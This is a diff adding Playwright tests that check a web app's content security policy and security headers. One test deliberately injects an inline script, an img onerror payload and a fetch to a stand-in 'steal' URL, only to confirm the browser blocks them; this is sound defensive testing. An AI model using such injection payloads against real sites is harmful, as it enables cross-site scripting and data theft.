@@ -1,0 +1,93 @@
+import type { Page } from '@playwright/test';
+import { urls } from '../../src/ui/urls.ts';
+import { stationArea } from './work-areas.ts';
+import { createAssessment, expect, signIn, test } from './world.ts';
+
+/** Begins to collect what the page's policy refuses, on this and every later document. */
+async function collectViolations(page: Page): Promise<string[]> {
+  const violations: string[] = [];
+  await page.exposeFunction('tellOfViolation', (what: string) => violations.push(what));
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
+      const tell = (window as unknown as { tellOfViolation: (what: string) => void }).tellOfViolation;
+      tell(`${violatedDirective}: ${blockedURI}`);
+    });
+  });
+  return violations;
+}
+
+test('every page works under the content security policy', async ({ page, demo }) => {
+  const violations = await collectViolations(page);
+  const { address, id } = await createAssessment(demo, { name: 'Under policy', workAreas: stationArea() });
+  for (const path of ['/signup?email=a@example.com&token=t', '/forgot', '/setup', '/nowhere']) {
+    await page.goto(path);
+    await expect(page.getByRole('heading').first()).toBeVisible();
+  }
+  await page.goto(address);
+  await signIn(page, demo.administrator);
+  await page.getByRole('button', { name: 'Process' }).click();
+  await expect(page.getByRole('table', { name: 'Receivers' })).toBeVisible();
+  await page.goto(urls.report(demo.project.address, id));
+  await expect(page.getByRole('article')).toBeVisible();
+  const pages = {
+    '/': page.getByRole('link', { name: demo.project.name }),
+    '/account': page.getByRole('button', { name: 'Change password' }),
+    [urls.project(demo.project.address)]: page.getByRole('link', { name: 'Under policy' }),
+    '/admin/users': page.getByRole('table', { name: 'Users' }),
+    '/admin/companies': page.getByRole('table', { name: 'Companies' }),
+    '/admin/audit': page.getByRole('table', { name: 'Audit' }),
+  };
+  for (const [path, sign] of Object.entries(pages)) {
+    await page.goto(path);
+    await expect(sign).toBeVisible();
+  }
+  expect(violations).toEqual([]);
+});
+
+test('the policy refuses scripts in the page and requests elsewhere', async ({ page }) => {
+  const violations = await collectViolations(page);
+  const response = await page.goto('/login');
+  const policy = (await response?.headerValue('content-security-policy')) ?? '';
+  expect(policy).toMatch(/script-src 'self'[^;]*;/);
+  expect(/script-src[^;]*/.exec(policy)?.[0]).not.toMatch(/unsafe|\*|data:|blob:/);
+  await expect(page.getByRole('heading', { name: 'Sign in' })).toBeVisible();
+  // Through the DOM, as an injected element would: Playwright's own evaluation is not bound by the policy.
+  page.removeAllListeners('console');
+  const ran = await page.evaluate(async () => {
+    const script = document.createElement('script');
+    script.textContent = 'window.injected = true';
+    document.body.append(script);
+    const image = document.createElement('div');
+    image.innerHTML = '<img src="data:," onerror="window.injected = true">';
+    document.body.append(image);
+    await fetch('https://elsewhere.example/steal').catch(() => {});
+    return 'injected' in window;
+  });
+  expect(ran).toBe(false);
+  await expect.poll(() => violations.join()).toContain('script-src');
+  await expect.poll(() => violations.join()).toContain('connect-src: https://elsewhere.example/steal');
+});
+
+test('pages are fetched anew, hashed files for good, and nobody frames them', async ({ request }) => {
+  for (const path of ['/', '/index.html', '/projects/any/', '/admin/users', '/login?redirect=%2F']) {
+    const headers = (await request.get(path)).headers();
+    expect(headers).toMatchObject({
+      'cache-control': 'no-cache',
+      'referrer-policy': 'strict-origin-when-cross-origin',
+      'strict-transport-security': 'max-age=63072000; includeSubDomains',
+      'x-content-type-options': 'nosniff',
+      'x-frame-options': 'DENY',
+      'cross-origin-opener-policy': 'same-origin',
+      'permissions-policy': expect.stringContaining('geolocation=()'),
+      'content-security-policy': expect.stringContaining("frame-ancestors 'none'"),
+    });
+  }
+  const page = await (await request.get('/')).text();
+  const asset = /\/assets\/[^"]+-[\w-]{8}\.js/.exec(page)?.[0] ?? '';
+  const script = await request.get(asset);
+  expect(script.status()).toBe(200);
+  expect(script.headers()).toMatchObject({
+    'cache-control': 'public, max-age=31536000, immutable',
+    'x-content-type-options': 'nosniff',
+  });
+});
